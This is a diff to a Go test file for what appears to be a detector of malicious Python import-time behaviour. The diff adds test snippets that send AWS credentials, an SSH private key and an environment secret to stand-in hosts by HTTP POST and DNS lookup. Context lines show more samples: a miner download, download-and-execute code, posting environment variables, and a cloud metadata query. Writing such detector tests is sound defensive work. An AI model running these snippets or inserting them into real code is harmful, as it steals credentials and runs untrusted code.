@@ -86,6 +86,9 @@ func TestWhatRunsAtImport(t *testing.T) {
 		{"sys.modules['subprocess']", "import sys\nsys.modules['subprocess'].Popen(['x'])\n", "spawn@2"},
 		{"builtins.__dict__.get('exec')", "import builtins\nbuiltins.__dict__.get('exec')('x = 1')\n", "dynamic-code@2"},
 		{"exec handed to map", "list(map(exec, ['x = 1']))\n", "dynamic-code@1"},
+		{"credentials through pathlib's /", "import pathlib, requests\ncreds = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('http://x', data=creds)\n", "env-exfiltration@2"},
+		{"credentials through os.path.join", "import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\nrequests.post('http://x', data=key)\n", "env-exfiltration@2"},
+		{"a secret sent in a DNS lookup", "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example')\n", "env-exfiltration@2"},
 		{"a method never called", "import os\nclass Setup:\n    def go(self):\n        os.system('x')\nSetup()\n", ""},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -136,7 +139,7 @@ func TestObfuscations(t *testing.T) {
 		{"wget started", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec@2"},
 		{"download then run", "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n", "download-exec@3"},
 		{"environment posted", "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n", "env-exfiltration@2"},
-		{"environment through a name", "import os, requests\nenv = os.environ.copy()\nrequests.post('http://x', data=str(env))\n", "env-exfiltration@3"},
+		{"environment through a name", "import os, requests\nenv = os.environ.copy()\nrequests.post('http://x', data=str(env))\n", "env-exfiltration@2"},
 		{"cloud credentials sent", "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://x', data=creds)\n", "env-exfiltration@2"},
 		{"metadata endpoint", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/')\n", "env-exfiltration@2"},
 	} {
